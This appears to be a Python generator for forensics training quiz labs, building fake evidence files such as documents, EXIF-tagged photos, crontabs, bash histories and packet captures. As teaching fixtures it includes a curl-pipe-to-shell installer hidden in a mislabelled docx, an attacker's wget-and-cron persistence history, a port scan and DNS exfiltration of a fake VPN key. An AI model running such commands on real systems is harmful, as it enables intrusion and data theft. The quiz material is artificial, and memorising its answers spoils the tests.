"""The binary files of every forensics-basics quiz lab: ALL maps a quiz file to {lab path: bytes}."""
import gzip
import random

from formats import (ASCII, RATIONAL, Pcap, dms, dns_query, dns_response, docx, exif, jpeg, pdf, png, zip_archive)

CASE = "/home/student/case"


def mosaic(rows: int, cols: int, seed: int, palette: list[tuple[int, int, int]]) -> list[list[tuple[int, int, int]]]:
    rng = random.Random(seed)
    return [[rng.choice(palette) for _ in range(cols)] for _ in range(rows)]


def pixels(blocks: list[list[tuple[int, int, int]]], scale: int = 4) -> list[list[tuple[int, int, int]]]:
    return [[rgb for rgb in row for _ in range(scale)] for row in blocks for _ in range(scale)]


SKY = [(96, 148, 210), (120, 170, 225), (235, 235, 240), (60, 110, 60), (200, 180, 120)]
OFFICE = [(210, 205, 195), (90, 90, 100), (40, 60, 120), (230, 230, 230)]
FACE = [(225, 190, 160), (60, 45, 40), (30, 60, 110), (240, 240, 240)]


# --- Module 1 ---------------------------------------------------------------------------------------------------

def what_is_it_really() -> dict[str, bytes]:
    folder = f"{CASE}/attachments"
    log = "".join(f"2026-03-0{d} 02:00:0{d} backup: /srv/share copied, {1200 + d * 37} files\n" for d in range(1, 8))
    return {
        f"{folder}/invoice-0312.pdf": pdf("Invoice 0312: 14 x toner cartridge",
                                          {"Title": "Invoice 0312", "Producer": "LibreOffice 7.4"}),
        f"{folder}/receipt-0313.pdf": pdf("Receipt 0313: courier, 2 parcels",
                                          {"Title": "Receipt 0313", "Producer": "Microsoft Word 2019"}),
        f"{folder}/holiday.jpg": png(pixels(mosaic(6, 8, 11, SKY))),
        f"{folder}/scan-page2.png": png(pixels(mosaic(8, 6, 12, OFFICE))),
        f"{folder}/photo-0041.jpg": jpeg(mosaic(4, 6, 13, SKY)),
        f"{folder}/minutes.docx": docx("Minutes of the March board meeting.", "Ines Duarte", "Ines Duarte",
                                       "2026-03-02T09:00:00Z", "2026-03-02T11:30:00Z"),
        f"{folder}/setup-guide.docx": zip_archive([("setup/install.sh", b"#!/bin/sh\ncurl -s http://203.0.113.9/a | sh\n"),
                                                   ("setup/README.txt", b"Run install.sh as root.\n")]),
        f"{folder}/backup.log": gzip.compress(log.encode(), mtime=1772416800),
    }


def past_the_end() -> dict[str, bytes]:
    note = (
        "Facilities - temporary access\n"
        "Server room B2, contractor badge 7730\n"
        "door code: 6184\n"
        "valid until 2026-04-30, then ask Facilities for a new one\n"
    )
    photo = jpeg(mosaic(8, 6, 21, FACE))
    return {f"{CASE}/badge-photo.jpg": photo + zip_archive([("access.txt", note.encode())], when=(2026, 3, 9, 16, 4, 0))}


CRONTAB = """# m h  dom mon dow   command
25 6 * * * /usr/sbin/logrotate /etc/logrotate.conf
0 2 * * 0 /usr/local/bin/backup-share.sh --weekly
*/10 * * * * /usr/lib/sysstat/debian-sa1 1 1
{minute} * * * * /usr/local/lib/.sysmon/sysmon -q >/dev/null 2>&1
"""
PASSWD = """root:x:0:0:root:/root:/bin/bash
daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin
www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin
sshd:x:104:65534::/run/sshd:/usr/sbin/nologin
mlindqvist:x:1000:1000:Maja Lindqvist,,,:/home/mlindqvist:/bin/bash
backup-svc:x:1001:1001::/srv/backup:/bin/bash
"""
HISTORY = """#1773177210
cd /tmp
#1773177222
wget -q http://203.0.113.77/s.tgz
#1773177231
tar xzf s.tgz -C /usr/local/lib/ && rm s.tgz
#1773177240
mv /usr/local/lib/s /usr/local/lib/.sysmon
#{installed}
crontab /tmp/.c && rm /tmp/.c
#1773177270
history -c
"""
ACQUIRED_INSTALL = 1773177262  # 2026-03-10 21:14:22 UTC


def which_copy_is_evidence() -> dict[str, bytes]:
    """Five copies of root's crontab and four of its history, one of each acquired: only the hashes tell which.

    Every other pairing gives another first run (twenty pairings, nineteen wrong times), so the answer needs both
    items verified, not a guess among the copies.
    """
    import hashlib

    exports = f"{CASE}/exports"
    crontabs = {
        "crontabs-root": CRONTAB.format(minute=43).encode(),  # acquired (E-03)
        # an older version found in /var/backups on the host
        "root-crontab.bak": CRONTAB.format(minute=13).encode(),
        # pasted into the helpdesk ticket from a screenshot: Windows line endings, one digit misread
        "root-crontab.txt": CRONTAB.format(minute=48).replace("\n", "\r\n").encode(),
        # retyped into the incident wiki by the first responder
        "crontab-wiki.txt": CRONTAB.format(minute=34).encode(),
        # sent by the hosting provider from its own backups, of no recorded date
        "crontab-provider": CRONTAB.format(minute=7).encode(),
    }
    histories = {
        "bash_history": ACQUIRED_INSTALL,  # acquired (E-02)
        "bash_history.ticket": ACQUIRED_INSTALL + 37 * 60 + 18,  # 21:51:40: the ticket's retyped epoch
        "bash_history.wiki": ACQUIRED_INSTALL - 45 * 60 - 17,  # 20:29:05
        "bash_history.provider": ACQUIRED_INSTALL + 2 * 3600 + 35 * 60 + 58,  # 23:50:20
    }
    files = {f"{exports}/{name}": data for name, data in crontabs.items()}
    files.update({f"{exports}/{name}": HISTORY.format(installed=epoch).encode() for name, epoch in histories.items()})
    files[f"{exports}/passwd"] = PASSWD.encode()
    digest = {name: hashlib.sha256(files[f"{exports}/{name}"]).hexdigest()
              for name in ("passwd", "bash_history", "crontabs-root")}
    custody = f"""CHAIN OF CUSTODY - case IR-2026-031, host fs-02 (file server)

Item  Source on fs-02                    SHA-256
E-01  /etc/passwd                        {digest["passwd"]}
E-02  /root/.bash_history                {digest["bash_history"]}
E-03  /var/spool/cron/crontabs/root      {digest["crontabs-root"]}

Acquired 2026-03-11 21:40 UTC by R. Okafor: tar over SSH, every item hashed on fs-02 before transfer.

Transfers
2026-03-11 22:05 UTC  R. Okafor -> evidence share IR-2026-031 (read-only)    hashes checked: OK
2026-03-12 08:10 UTC  evidence share -> M. Lindqvist, working copies in exports/
"""
    files[f"{CASE}/custody.txt"] = custody.encode()
    return files


# --- Module 2 ---------------------------------------------------------------------------------------------------

def camera_exif(make: str, model: str, taken: str, offset: str | None = None, serial: str | None = None,
                gps: tuple[float, float] | None = None, **ifd0_text: str) -> bytes:
    """An EXIF segment as a camera (and maybe an editor) writes it: taken is 'YYYY:MM:DD HH:MM:SS', local time."""
    names = {"Software": 0x0131, "Artist": 0x013B, "ImageDescription": 0x010E}
    ifd0 = {0x010F: (ASCII, make), 0x0110: (ASCII, model), 0x0132: (ASCII, taken)}
    ifd0.update({names[key]: (ASCII, value) for key, value in ifd0_text.items()})
    sub = {0x9003: (ASCII, taken), 0x829A: (RATIONAL, [(1, 250)])}
    if offset:
        sub[0x9011] = (ASCII, offset)
    if serial:
        sub[0xA431] = (ASCII, serial)
    position = None
    if gps:
        lat, lon = gps
        position = {1: (ASCII, "N" if lat >= 0 else "S"), 2: (RATIONAL, dms(lat)),
                    3: (ASCII, "E" if lon >= 0 else "W"), 4: (RATIONAL, dms(lon))}
    return exif(ifd0, sub, position)


def where_was_it_taken() -> dict[str, bytes]:
    app = camera_exif("SONY", "ILCE-7M3", "2026:01:18 10:12:44", "-03:00", "3871452", (-22.9519, -43.2105),
                      ImageDescription="Lisbon - view from the flat, Alfama")
    return {f"{CASE}/listing-photo-3.jpg": jpeg(mosaic(6, 8, 31, SKY), app)}


def which_came_first() -> dict[str, bytes]:
    folder = f"{CASE}/usb-stick"
    return {
        f"{folder}/memo.docx": docx("Q2 supplier change: draft.", "Petra Vogel", "Petra Vogel",
                                    "2026-03-04T08:40:00Z", "2026-03-04T08:52:00Z"),
        f"{folder}/agenda.docx": docx("Agenda: supplier review.", "Petra Vogel", "Petra Vogel",
                                      "2026-03-04T08:33:00Z", "2026-03-04T08:33:00Z"),
        f"{folder}/slides.pdf": pdf("Supplier review", {"Title": "Supplier review", "Author": "Petra Vogel",
                                                        "Creator": "Impress", "Producer": "LibreOffice 7.4",
                                                        "CreationDate": "D:20260304093000+01'00'"}),
        f"{folder}/whiteboard.jpg": jpeg(mosaic(4, 6, 41, OFFICE), camera_exif(
            "Google", "Pixel 8a", "2026:03:04 09:35:12", "+01:00")),
        f"{folder}/contract-scan.jpg": jpeg(mosaic(6, 4, 42, OFFICE), camera_exif(
            "Apple", "iPhone 15", "2026:03:04 08:31:40", "-05:00")),
    }


def whose_camera() -> dict[str, bytes]:
    folder = f"{CASE}/downloads"
    z6 = ("NIKON CORPORATION", "NIKON Z 6_2")
    photos = [
        ("greyheron/roadmap-whiteboard.jpg", *z6, "2026:02:09 18:02:33", "+01:00", "6047718", {"Software": "Ver.01.60"}),
        ("greyheron/cat-on-keyboard.jpg", "Apple", "iPhone 14", "2026:01:28 21:14:09", "+01:00", None, {}),
        ("mika_shoots/harbour-lights.jpg", *z6, "2025:03:22 19:40:05", "+01:00", "6047718",
         {"Software": "Adobe Lightroom Classic 14.2 (Windows)", "Artist": "Mika Lund"}),
        ("mika_shoots/spring-market.jpg", *z6, "2025:04:19 10:02:11", "+02:00", "6047718",
         {"Software": "Adobe Lightroom Classic 14.2 (Windows)", "Artist": "Mika Lund"}),
        ("mika_shoots/z8-first-light.jpg", "NIKON CORPORATION", "NIKON Z 8", "2025:06:20 05:12:40", "+02:00", "3011562",
         {"Artist": "Mika Lund"}),
        ("trailrunner_jo/ridge-run.jpg", *z6, "2025:08:16 07:45:02", "+02:00", "6047718", {"Software": "Ver.01.60"}),
        ("trailrunner_jo/finish-line.jpg", *z6, "2025:10:05 11:20:37", "+02:00", "6047718", {"Software": "Ver.01.60"}),
        ("hexagon_studio/expo-stand.jpg", *z6, "2026:02:09 18:10:05", "+01:00", "6051120",
         {"Software": "Ver.01.60", "Artist": "Hexagon Studio"}),
    ]
    files = {}
    for seed, (name, make, model, taken, offset, serial, text) in enumerate(photos):
        app = camera_exif(make, model, taken, offset, serial, None, **text)
        files[f"{folder}/{name}"] = jpeg(mosaic(4, 6, 60 + seed, OFFICE if seed % 2 else SKY), app)
    return files


# --- Module 3 ---------------------------------------------------------------------------------------------------

WORKSTATION, RESOLVER, SERVER = "192.0.2.30", "192.0.2.53", "198.51.100.20"
START = 1773151320.0  # 2026-03-10 14:02:00 UTC


def lookup(cap: Pcap, rng: random.Random, name: str, address: str | None, client: str = WORKSTATION) -> None:
    txid, port = rng.randint(0, 0xFFFF), rng.randint(40000, 60000)
    cap.udp(client, port, RESOLVER, 53, dns_query(txid, name))
    cap.wait(rng.uniform(0.004, 0.03))
    cap.udp(RESOLVER, 53, client, port, dns_response(txid, name, address))
    cap.wait(rng.uniform(0.05, 0.5))


def handshake(cap: Pcap, rng: random.Random, client: str, cport: int, server: str, sport: int) -> tuple[int, int]:
    """A three-way handshake; returns the next sequence numbers of client and server."""
    c, s = rng.getrandbits(32), rng.getrandbits(32)
    cap.tcp(client, cport, server, sport, "S", c)
    cap.wait(0.0011)
    cap.tcp(server, sport, client, cport, "SA", s, c + 1)
    cap.wait(0.0004)
    cap.tcp(client, cport, server, sport, "A", c + 1, s + 1)
    cap.wait(0.0003)
    return c + 1, s + 1


def close(cap: Pcap, client: str, cport: int, server: str, sport: int, c: int, s: int) -> None:
    cap.tcp(server, sport, client, cport, "FA", s, c)
    cap.wait(0.0004)
    cap.tcp(client, cport, server, sport, "FA", c, s + 1)
    cap.wait(0.0003)
    cap.tcp(server, sport, client, cport, "A", s + 1, c + 1)


def who_knocked() -> dict[str, bytes]:
    rng = random.Random(3001)
    cap = Pcap(START)
    scanner = "203.0.113.45"
    lookup(cap, rng, "intranet.example.org", SERVER)
    c, s = handshake(cap, rng, WORKSTATION, 51210, SERVER, 443)
    cap.wait(1.7)
    ports = [21, 22, 23, 25, 80, 110, 143, 443, 445, 3306, 3389, 8080]
    open_ports, silent = {22, 443, 3306}, {445}
    rng.shuffle(ports)
    for port in ports:
        seq = rng.getrandbits(32)
        cap.tcp(scanner, 61337, SERVER, port, "S", seq, window=1024, ttl=49)
        cap.wait(rng.uniform(0.0003, 0.001))
        if port in open_ports:
            cap.tcp(SERVER, port, scanner, 61337, "SA", rng.getrandbits(32), seq + 1)
            cap.wait(rng.uniform(0.0002, 0.0008))
            cap.tcp(scanner, 61337, SERVER, port, "R", seq + 1, window=0, ttl=49)
        elif port not in silent:
            cap.tcp(SERVER, port, scanner, 61337, "RA", 0, seq + 1, window=0)
        cap.wait(rng.uniform(0.001, 0.006))
    cap.wait(0.8)
    close(cap, WORKSTATION, 51210, SERVER, 443, c, s)
    return {f"{CASE}/knock.pcap": cap.bytes()}


def the_login() -> dict[str, bytes]:
    rng = random.Random(3002)
    cap = Pcap(START + 600)
    lookup(cap, rng, "intranet.example.org", SERVER)
    cport = 51544
    c, s = handshake(cap, rng, WORKSTATION, cport, SERVER, 80)
    body = b"username=okafor&password=Tide%2Bpool%2197&remember=1"
    head = (b"POST /login HTTP/1.1\r\nHost: intranet.example.org\r\n"
            b"User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0\r\n"
            b"Content-Type: application/x-www-form-urlencoded\r\n"
            b"Content-Length: %d\r\nOrigin: http://intranet.example.org\r\nConnection: keep-alive\r\n\r\n" % len(body))
    cut = body.index(b"pool")
    first, second = body[:cut], body[cut:]
    cap.tcp(WORKSTATION, cport, SERVER, 80, "PA", c, s, head)
    cap.wait(0.0002)
    # the body's two segments arrive in the wrong order: the second one first
    cap.tcp(WORKSTATION, cport, SERVER, 80, "PA", c + len(head) + len(first), s, second)
    cap.wait(0.0009)
    cap.tcp(SERVER, 80, WORKSTATION, cport, "A", s, c + len(head))  # duplicate ACK: still waiting for `first`
    cap.wait(0.0006)
    cap.tcp(WORKSTATION, cport, SERVER, 80, "PA", c + len(head), s, first)
    cap.wait(0.0008)
    c += len(head) + len(body)
    cap.tcp(SERVER, 80, WORKSTATION, cport, "A", s, c)
    cap.wait(0.012)
    response = (b"HTTP/1.1 302 Found\r\nServer: nginx\r\nLocation: /dashboard\r\n"
                b"Set-Cookie: sid=6f1c2a9e04b7d3; Path=/; HttpOnly\r\nContent-Length: 0\r\n\r\n")
    cap.tcp(SERVER, 80, WORKSTATION, cport, "PA", s, c, response)
    s += len(response)
    cap.wait(0.0004)
    cap.tcp(WORKSTATION, cport, SERVER, 80, "A", c, s)
    cap.wait(0.3)
    close(cap, WORKSTATION, cport, SERVER, 80, c, s)
    return {f"{CASE}/login.pcap": cap.bytes()}


def leak_over_dns() -> dict[str, bytes]:
    import base64

    rng = random.Random(3003)
    cap = Pcap(START + 1800)
    secret = b"host=fs-02 user=okafor vpn-psk=Harbour-Lantern-7731"
    encoded = base64.b32encode(secret).decode().rstrip("=").lower()
    chunks = [encoded[i:i + 18] for i in range(0, len(encoded), 18)]
    names = [f"{n:02d}-{chunk}.up.stats-sync.example.org" for n, chunk in enumerate(chunks)]
    order = [0, 1, 3, 2, 2, 4]  # chunk 3 overtakes 2, and 2 is asked twice (a retry)
    lookup(cap, rng, "www.example.com", "203.0.113.80")
    lookup(cap, rng, "mail.example.org", "203.0.113.25")
    for step, n in enumerate(order):
        lookup(cap, rng, names[n], None)
        if step == 1:
            lookup(cap, rng, "time.example.net", "203.0.113.123")
    lookup(cap, rng, "intranet.example.org", SERVER)
    return {f"{CASE}/dns.pcap": cap.bytes()}


ALL = {
    "01-files-are-not-their-names/02-what-is-it-really.quiz.yaml": what_is_it_really(),
    "01-files-are-not-their-names/04-past-the-end.quiz.yaml": past_the_end(),
    "01-files-are-not-their-names/06-which-copy-is-evidence.quiz.yaml": which_copy_is_evidence(),
    "02-metadata-and-osint/02-where-was-it-taken.quiz.yaml": where_was_it_taken(),
    "02-metadata-and-osint/04-which-came-first.quiz.yaml": which_came_first(),
    "02-metadata-and-osint/06-whose-camera.quiz.yaml": whose_camera(),
    "03-reading-network-captures/02-who-knocked.quiz.yaml": who_knocked(),
    "03-reading-network-captures/04-the-login.quiz.yaml": the_login(),
    "03-reading-network-captures/06-leak-over-dns.quiz.yaml": leak_over_dns(),
}
